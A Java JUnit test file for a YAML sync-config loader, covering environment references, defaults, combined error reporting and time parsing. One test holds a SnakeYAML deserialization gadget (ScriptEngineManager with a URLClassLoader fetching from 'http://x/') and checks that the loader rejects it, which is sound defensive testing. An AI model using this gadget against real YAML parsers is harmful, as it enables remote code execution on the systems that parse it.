package dev.dovetail.runtime.sync.config;

import static com.google.common.truth.Truth.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.StringReader;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SyncConfigLoaderTest {

  private static SyncConfig parse(String yaml, Map<String, String> env) throws ConfigException {
    return SyncConfigLoader.parse(new StringReader(yaml), "sync.yml", env);
  }

  @Test
  void readsEverySectionAndResolvesEnvironmentReferences() throws Exception {
    SyncConfig config = parse(String.join("\n",
        "name: crm-deals",
        "source:",
        "  synapse: demo_crm",
        "  entity: deal",
        "  connection: {endpoint: 'https://crm/', token: '${CRM_TOKEN}', region: '${REGION:-eu}'}",
        "  since: 2024-01-01T00:00:00Z",
        "  limit: 500",
        "destination:",
        "  name: deal_sql",
        "  settings: {sqlite.path: out/deals.db}",
        "mapping:",
        "  deal_id: id",
        "  title: title",
        "batch: {size: 250}",
        "state: {url: 'jdbc:postgresql://db/state?password=$${literal}'}"), Map.of("CRM_TOKEN", "t0k"));

    assertThat(config.name()).isEqualTo("crm-deals");
    assertThat(config.source()).isEqualTo(new SyncConfig.Source("demo_crm", "deal",
        Map.of("endpoint", "https://crm/", "token", "t0k", "region", "eu"), Instant.parse("2024-01-01T00:00:00Z"),
        500, null));
    assertThat(config.destination().settings()).containsExactly("sqlite.path", "out/deals.db");
    assertThat(config.mapping()).containsExactly("deal_id", "id", "title", "title").inOrder();
    assertThat(config.batchSize()).isEqualTo(250);
    assertThat(config.state()).isEqualTo("jdbc:postgresql://db/state?password=${literal}");
  }

  @Test
  void defaultsPutTheStateStoreBesideTheSqliteOutput() throws Exception {
    SyncConfig config = parse("source: {file: in.jsonl}\ndestination: {name: d, settings: {sqlite.path: /tmp/x/out.db}}",
        Map.of());

    assertThat(config.name()).isEqualTo("file");
    assertThat(config.batchSize()).isEqualTo(SyncConfig.DEFAULT_BATCH_SIZE);
    assertThat(config.state()).isEqualTo("jdbc:sqlite:/tmp/x/dovetail-state.db");
    assertThat(config.source().since()).isEqualTo(Instant.EPOCH);
  }

  @Test
  void reportsEveryProblemAtOnce() {
    ConfigException e = assertThrows(ConfigException.class, () -> parse(String.join("\n",
        "sorce: {}",
        "source: {entity: deal, file: x.jsonl, connection: {token: '${MISSING}'}}",
        "destination: {settings: {}}",
        "batch: {size: 0}",
        "state: {url: jdbc:sqlite:a, path: b}"), Map.of()));

    assertThat(e.problems()).containsExactly(
        "sorce: unknown key; known keys: batch, destination, mapping, name, source, state",
        "source: give either file, or entity (with synapse and connection), not both",
        "source.connection.token: environment variable MISSING is not set (write ${MISSING:-default} for an optional one)",
        "destination.name: required (see 'dovetail list')",
        "batch.size: must be between 1 and 10000, got 0",
        "state: give exactly one of url (a JDBC URL) and path (an SQLite file)",
        "destination: required (destination.name, and its settings)");
  }

  @Test
  void loadsOnlyPlainDataNeverArbitraryTypes() {
    ConfigException e = assertThrows(ConfigException.class, () -> parse(
        "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
        Map.of()));

    assertThat(e.getMessage()).startsWith("sync config sync.yml is not valid YAML");
    assertThat(e.problems().get(0)).contains("Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
  }

  @Test
  void aTimeThatIsNotOneSaysWhichFormsWork() {
    ConfigException e = assertThrows(ConfigException.class,
        () -> parse("source: {entity: deal, since: yesterday}\ndestination: {name: d}", Map.of()));

    assertThat(e.problems()).containsExactly("source.since: 'yesterday' is not a time: use ISO-8601"
        + " (2024-05-01T00:00:00Z) or epoch milliseconds");
  }
}
